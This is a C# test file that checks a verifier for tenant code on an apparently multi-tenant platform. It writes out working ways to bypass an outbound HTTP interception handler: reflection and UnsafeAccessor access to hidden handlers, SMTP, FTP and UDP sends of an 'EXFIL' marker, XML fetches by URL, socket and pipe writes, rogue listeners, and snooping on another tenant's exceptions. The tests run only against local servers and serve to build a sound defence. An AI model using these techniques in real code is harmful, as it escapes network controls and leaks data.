using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.Loader;
using System.Text;
using OutboundInterception.Tests.Outbound;
using OutboundInterception.Tests.Verification;

namespace OutboundInterception.Tests.Holes;

/// <summary>
/// What nothing in the process stops once it runs: the code that does it is refused before it is loaded. Each piece is first run as
/// it is, beside a naive handler that sees nothing of it; then the very same assembly is given to the verifier.
/// </summary>
[CancelAfter(60_000)]
public class VerifierHoleTests
{
    private const string Xml = "<a/>";

    [TestCase("""typeof(HttpMessageInvoker).GetField("_handler", System.Reflection.BindingFlags.NonPublic | System.Reflection.BindingFlags.Instance)!.GetValue(client)""")]
    [TestCase("Accessors.Handler(client)")]
    public async Task J4_InnerHandler_ReachedAndRefused(string expression)
    {
        await using RawServer inside = new(RawServer.Ok);
        using PlainClient plain = new();
        byte[] assembly = Compile(expression);
        DelegatingHandler found = (DelegatingHandler)Run(assembly, plain.Http, string.Empty)!;
        using HttpClient raw = new(found.InnerHandler!, disposeHandler: false);
        await raw.GetStringAsync(Hosts.InternalUrl(inside.Port));

        Assert.That(inside.Heads, Has.Count.EqualTo(1));
        Assert.That(plain.Naive.Seen, Is.Empty);
        AssertRefused(assembly);
    }

    [TestCase("((DelegatingHandler)handler).InnerHandler")]
    public void J4_InnerHandlerByItsProperty_Refused(string expression) => AssertRefused(Compile(expression));

    [TestCase("new HttpClient().GetStringAsync(url).Result")]
    [TestCase("new System.Net.WebClient().DownloadString(url)")]
    [TestCase("System.Net.WebRequest.Create(url).GetResponse()")]
    [TestCase("new HttpMessageInvoker(new SocketsHttpHandler()).SendAsync(new HttpRequestMessage(HttpMethod.Get, url), default).Result")]
    [TestCase("""new System.Net.WebSockets.ClientWebSocket().ConnectAsync(new Uri(url.Replace("http:", "ws:")), default).ContinueWith(_ => url).Result""")]
    public async Task J5_ClientOfItsOwn_ReachesAndIsRefused(string expression) => await FetchesAsync(expression);

    [TestCase("Accessors.Download(Accessors.Make(), url)")]
    public async Task J9_UnsafeAccessorType_ReachesWithoutAReferenceAndIsRefused(string expression)
    {
        byte[] assembly = await FetchesAsync(expression);

        using System.Reflection.PortableExecutable.PEReader image = new(new MemoryStream(assembly));
        System.Reflection.Metadata.MetadataReader metadata = System.Reflection.Metadata.PEReaderExtensions.GetMetadataReader(image);
        IEnumerable<string> types = metadata.TypeReferences.Select(handle => metadata.GetTypeReference(handle)).Select(type => metadata.GetString(type.Namespace));
        Assert.That(types, Has.None.EqualTo("System.Net"), "there is no reference that a scan would find");

        // Nor is it found in a tenant that is given in at run time.
        await using Platform platform = Platform.Create(static _ => { });
        platform.Namespace.Deployments.Trust.TrustAssembly(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(assembly)));
        DeploymentException refused = (await Assert.ThrowsAsync<DeploymentException>(() => platform.Namespace.Deployments.DeployAsync("tenant", new TenantAssembly { Image = assembly })))!;
        Assert.That(platform.Namespace.Contains("tenant"), Is.False);
        Assert.That(refused.ToString(), Does.Contain("UnsafeAccessor"));
    }

    [TestCase("client.GetType().GetFields((System.Reflection.BindingFlags)(-1))")]
    public void J8_FieldsOfWhatItHolds_Refused(string expression) => AssertRefused(Compile(expression));

    [Test]
    public async Task K7_FirstChanceException_ShowsAnothersFailureAndIsRefused()
    {
        string host = $"{Guid.NewGuid():n}.test";
        byte[] assembly = Compile("Watcher.Watch(url)", """
            public static class Watcher
            {
                public static string?[] Watch(string part)
                {
                    string?[] seen = new string?[1];
                    EventHandler<System.Runtime.ExceptionServices.FirstChanceExceptionEventArgs>? watch = null;
                    watch = (_, e) =>
                    {
                        if (e.Exception.Message.Contains(part))
                        {
                            seen[0] = e.Exception.Message;
                            AppDomain.CurrentDomain.FirstChanceException -= watch;
                        }
                    };
                    AppDomain.CurrentDomain.FirstChanceException += watch;
                    return seen;
                }
            }
            """);
        using PlainClient plain = new();
        string?[] seen = (string?[])Run(assembly, plain.Http, host)!;
        await Assert.ThrowsAsync<HttpRequestException>(() => plain.Other.GetStringAsync($"http://{host}/"));

        Assert.That(seen[0], Is.EqualTo($"BLOCKED {host}"), "of the other tenant");
        AssertRefused(assembly);
    }

    [TestCase("System.Xml.XmlReader.Create(url).Read()")]
    [TestCase("System.Xml.Linq.XDocument.Load(url)")]
    [TestCase("new System.Xml.XmlUrlResolver().GetEntity(new Uri(url), null, null)")]
    [TestCase("new System.Data.DataSet().ReadXml(url)")]
    public async Task L1_DocumentByUrl_FetchesAndIsRefused(string expression) => await FetchesAsync(expression);

    [TestCase("""new System.Net.Mail.SmtpClient(new Uri(url).Host, new Uri(url).Port).SendMailAsync("a@b.test", "c@d.test", "x", "EXFIL").ContinueWith(_ => url).Result""", "EXFIL")]
    [TestCase("""((System.Net.FtpWebRequest)System.Net.WebRequest.Create(url.Replace("http://", "ftp://u:EXFIL@") + "x")).GetResponse()""", "PASS EXFIL")]
    public async Task L2_MailAndFtp_CarryDataOutAndAreRefused(string expression, string carried)
    {
        ConcurrentQueue<string> lines = new();
        await using TcpServer server = new((stream, token) => ConverseAsync(stream, lines, token));
        byte[] assembly = Compile(expression);
        using PlainClient plain = new();
        Exception? failure = null;
        try
        {
            Run(assembly, plain.Http, $"http://127.0.0.1:{server.Port}/");
        }
        catch (TargetInvocationException exception) when (exception.InnerException is WebException)
        {
            // The server says no once it has heard the password.
            failure = exception.InnerException;
        }

        Assert.That(lines, Has.Some.EqualTo(carried), failure?.ToString());
        Assert.That(plain.Naive.Seen, Is.Empty);
        AssertRefused(assembly);
    }

    [Test]
    public async Task L3_Datagram_CarriesDataOutAndIsRefused()
    {
        using UdpClient outside = new(new IPEndPoint(IPAddress.Loopback, 0));
        byte[] assembly = Compile("""new System.Net.Sockets.UdpClient().Send(System.Text.Encoding.ASCII.GetBytes("EXFIL"), 5, "127.0.0.1", new Uri(url).Port)""");
        using PlainClient plain = new();
        Task<UdpReceiveResult> received = outside.ReceiveAsync();
        Run(assembly, plain.Http, $"http://127.0.0.1:{((IPEndPoint)outside.Client.LocalEndPoint!).Port}/");

        Assert.That(Encoding.ASCII.GetString((await received).Buffer), Is.EqualTo("EXFIL"));
        AssertRefused(assembly);
    }

    [Test]
    public void L3_NameService_AnswersAndIsRefused()
    {
        byte[] assembly = Compile("System.Net.Dns.GetHostAddresses(url)");
        using PlainClient plain = new();

        Assert.That((IPAddress[])Run(assembly, plain.Http, "localhost")!, Has.Some.Matches<IPAddress>(static address => IPAddress.IsLoopback(address!)));
        Assert.That(plain.Naive.Seen, Is.Empty);
        AssertRefused(assembly);
    }

    // Not run: what may send an echo request differs from machine to machine.
    [TestCase("new System.Net.NetworkInformation.Ping().Send(url)")]
    public void L3_Ping_Refused(string expression) => AssertRefused(Compile(expression));

    [TestCase("Pipe.Write(url)", """
        public static class Pipe
        {
            public static object? Write(string path)
            {
                using System.IO.Pipes.NamedPipeClientStream pipe = new(".", path);
                pipe.Connect();
                pipe.Write(new byte[] { 71, 69, 84 });
                return null;
            }
        }
        """)]
    [TestCase("Pipe.Write(url)", """
        public static class Pipe
        {
            public static object? Write(string path)
            {
                using System.Net.Sockets.Socket socket = new(System.Net.Sockets.AddressFamily.Unix, System.Net.Sockets.SocketType.Stream, 0);
                socket.Connect(new System.Net.Sockets.UnixDomainSocketEndPoint(path));
                socket.Send(new byte[] { 71, 69, 84 });
                return null;
            }
        }
        """)]
    [Platform("Unix")]
    public async Task L6_UnixSocket_ReachedAndRefused(string expression, string more)
    {
        string path = Path.Combine(Directory.CreateTempSubdirectory().FullName, "engine.sock");
        using Socket engine = new(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        engine.Bind(new UnixDomainSocketEndPoint(path));
        engine.Listen();
        byte[] assembly = Compile(expression, more);
        using PlainClient plain = new();
        Run(assembly, plain.Http, path);
        using Socket reached = await engine.AcceptAsync();
        byte[] buffer = new byte[3];
        await reached.ReceiveAsync(buffer);

        Assert.That(Encoding.ASCII.GetString(buffer), Is.EqualTo("GET"));
        AssertRefused(assembly);
    }

    [TestCase("Listener.Start(url)", """
        public static class Listener
        {
            public static object Start(string url)
            {
                System.Net.HttpListener listener = new();
                listener.Prefixes.Add(url);
                listener.Start();
                return listener;
            }
        }
        """)]
    [TestCase("Listener.Start(url)", """
        public static class Listener
        {
            public static object Start(string url)
            {
                System.Net.Sockets.TcpListener listener = new(System.Net.IPAddress.Loopback, new Uri(url).Port);
                listener.Start();
                return listener;
            }
        }
        """)]
    [TestCase("Listener.Start(url)", """
        public static class Listener
        {
            public static object Start(string url)
            {
                Microsoft.AspNetCore.Builder.WebApplication app = Microsoft.AspNetCore.Builder.WebApplication.Create();
                app.Urls.Add(url);
                app.StartAsync().Wait();
                return app;
            }
        }
        """)]
    public async Task L7_Listener_IsAWayInAndIsRefused(string expression, string more)
    {
        byte[] assembly = Compile(expression, more);
        using PlainClient plain = new();
        (object listener, int port) = Listen(assembly, plain.Http);
        using (TcpClient inbound = new())
        {
            await inbound.ConnectAsync(IPAddress.Loopback, port);
            Assert.That(inbound.Connected);
        }

        if (listener is IAsyncDisposable app)
        {
            await app.DisposeAsync();
        }
        else
        {
            ((IDisposable)listener).Dispose();
        }

        Assert.That(plain.Naive.Seen, Is.Empty);
        AssertRefused(assembly);
    }

    [Test]
    public void Verify_NothingOfTheKind_Passes() =>
        Assert.That(TenantAssemblyVerifier.Verify(Compile("client.GetStringAsync(url)")).Violations, Is.Empty);

    private static async Task<byte[]> FetchesAsync(string expression)
    {
        await using RawServer inside = new(RawServer.Answer(Xml));
        byte[] assembly = Compile(expression);
        using PlainClient plain = new();
        Run(assembly, plain.Http, $"http://127.0.0.1:{inside.Port}/direct");

        Assert.That(inside.Heads, Has.Some.StartsWith("GET /direct"));
        Assert.That(plain.Naive.Seen, Is.Empty, "the handler is not asked");
        AssertRefused(assembly);
        return assembly;
    }

    private static void AssertRefused(byte[] assembly) => Assert.That(TenantAssemblyVerifier.Verify(assembly).Violations, Is.Not.Empty);

    private static object? Run(byte[] assembly, HttpClient client, string url)
    {
        AssemblyLoadContext unverified = new(null, isCollectible: true);
        MethodInfo act = unverified.LoadFromStream(new MemoryStream(assembly)).GetType("Shop")!.GetMethod("Act")!;
        object? result = act.Invoke(null, [client, new HttpClientHandler(), url]);
        unverified.Unload();
        return result;
    }

    // HttpListener takes no port of the system's choice, so one is tried that was free a moment before.
    private static (object Listener, int Port) Listen(byte[] assembly, HttpClient client)
    {
        for (int round = 0; ; round++)
        {
            int port;
            using (TcpListener free = new(IPAddress.Loopback, 0))
            {
                free.Start();
                port = ((IPEndPoint)free.LocalEndpoint).Port;
            }

            try
            {
                return (Run(assembly, client, $"http://127.0.0.1:{port}/")!, port);
            }
            catch (TargetInvocationException) when (round < 10)
            {
                // Somebody else was faster.
            }
        }
    }

    private static async Task ConverseAsync(NetworkStream stream, ConcurrentQueue<string> lines, CancellationToken token)
    {
        await using StreamWriter writer = new(stream) { NewLine = "\r\n", AutoFlush = true };
        await writer.WriteLineAsync("220 ready");
        using StreamReader reader = new(stream);
        bool isBody = false;
        while (await reader.ReadLineAsync(token) is { } line)
        {
            lines.Enqueue(line);
            isBody = isBody && line != ".";
            string? answer = isBody ? null : line.Split(' ')[0] switch
            {
                "DATA" => "354 go on",
                "USER" => "331 and the password",
                "PASS" => "530 no",
                _ => "250 ok",
            };
            isBody |= line == "DATA";
            if (answer is not null)
            {
                await writer.WriteLineAsync(answer);
            }
        }
    }

    private static byte[] Compile(string expression, string more = "") => TenantCompiler.Compile(
        $$"""
        #nullable enable
        #pragma warning disable SYSLIB0014
        using System;
        using System.Net.Http;
        using System.Runtime.CompilerServices;
        public static class Shop
        {
            public static object? Act(HttpClient client, HttpMessageHandler handler, string url) => {{expression}};
        }
        {{more}}
        {{(expression.Contains("Accessors", StringComparison.Ordinal) ? Accessors : string.Empty)}}
        """);

    private const string Accessors = """
        public static class Accessors
        {
            [UnsafeAccessor(UnsafeAccessorKind.Field, Name = "_handler")]
            public static extern ref HttpMessageHandler Handler(HttpMessageInvoker invoker);

            [UnsafeAccessor(UnsafeAccessorKind.Constructor)]
            [return: UnsafeAccessorType("System.Net.WebClient, System.Net.WebClient")]
            public static extern object Make();

            [UnsafeAccessor(UnsafeAccessorKind.Method, Name = "DownloadString")]
            public static extern string Download([UnsafeAccessorType("System.Net.WebClient, System.Net.WebClient")] object client, string address);
        }
        """;
}
